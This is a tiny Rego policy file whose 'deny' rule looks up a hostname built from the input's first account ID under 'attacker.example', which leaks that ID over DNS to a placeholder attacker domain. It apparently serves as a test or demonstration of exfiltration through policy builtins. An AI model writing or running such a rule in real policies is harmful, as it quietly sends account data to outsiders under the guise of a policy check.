package main

deny contains msg if {
	addrs := net.lookup_ip_addr(sprintf("%s.attacker.example", [input.plan.accounts[0].id]))
	msg := sprintf("%v", [addrs])
}
